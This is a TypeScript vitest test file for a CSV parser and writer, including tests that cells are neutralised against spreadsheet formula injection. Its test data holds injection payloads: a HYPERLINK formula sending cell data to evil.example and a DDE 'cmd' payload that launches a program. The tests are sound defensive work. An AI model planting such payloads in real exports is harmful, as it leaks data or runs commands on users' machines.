import { describe, expect, it } from "vitest";
import { CsvParser, csvLine, guessDelimiter, neutraliseCell, restoreCell } from "./csv.ts";

const parse = (chunks: string[], delimiter = ",") => {
  const p = new CsvParser(delimiter);
  return [...chunks.flatMap((c) => p.push(c)), ...p.end()];
};

describe("CsvParser", () => {
  it("reads quoted cells with delimiters, doubled quotes and line breaks", () => {
    expect(parse(['name,note\r\n"Acme, Inc.","said ""hi""\nthen left"\r\nBeta,x'])).toEqual([
      ["name", "note"],
      ["Acme, Inc.", 'said "hi"\nthen left'],
      ["Beta", "x"],
    ]);
  });

  it("gives the same records whatever the chunk boundaries", () => {
    const text = '\ufeffa,b\r\n"x ""y""",2\r\n3,"4\r\n5"\n';
    const whole = parse([text]);
    for (let cut = 1; cut < text.length; cut++)
      expect(parse([text.slice(0, cut), text.slice(cut)])).toEqual(whole);
    expect(whole).toEqual([
      ["a", "b"],
      ['x "y"', "2"],
      ["3", "4\r\n5"],
    ]);
  });

  it("guesses a semicolon or tab delimiter from the header", () => {
    expect(guessDelimiter("Name;Amount;Close Date")).toBe(";");
    expect(guessDelimiter("Name\tAmount")).toBe("\t");
    expect(guessDelimiter('"a;b",c')).toBe(",");
  });
});

describe("csvLine", () => {
  it("quotes only the cells that need it", () => {
    expect(csvLine(["plain", "a,b", 'say "x"', "two\nlines"])).toBe('plain,"a,b","say ""x""","two\nlines"');
  });
});

describe("spreadsheet safety (OWASP CSV injection)", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "-1500.00",
    "\tTabbed",
    "\rCarriage",
    "=1+2\";=cmd|' /C calc'!A0",
    "x;=cmd()",
    "a,=b",
    "'=already quoted",
    "''@twice",
    "'plain quote",
    "plain",
    "",
  ];
  /** Where each cell's text starts on the line: after its opening quote, if it has one. */
  const starts = (line: string) => {
    const p = new CsvParser(",");
    return [...p.push(line), ...p.end()][0]!;
  };

  it("writes no cell a spreadsheet would start as a formula", () => {
    const line = csvLine(hostile);
    for (const cell of starts(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(starts(line)[0]).toBe(`'${hostile[0]}`);
  });

  it("quotes a cell holding ; or a tab, so a spreadsheet splitting on them cannot start a new cell", () => {
    expect(csvLine(["x;=cmd()", "a\tb"])).toBe('"x;=cmd()","a\tb"');
  });

  it("reads back the original text of every cell, whatever it started with", () => {
    const p = new CsvParser(",");
    const [cells] = [...p.push(`${csvLine(hostile)}\n`), ...p.end()];
    expect(cells!.map(restoreCell)).toEqual(hostile);
  });

  it("leaves text that was never neutralised as it is", () => {
    expect(restoreCell("'plain quote")).toBe("'plain quote");
    expect(restoreCell("O'Brien")).toBe("O'Brien");
    expect(neutraliseCell("O'Brien")).toBe("O'Brien");
  });
});
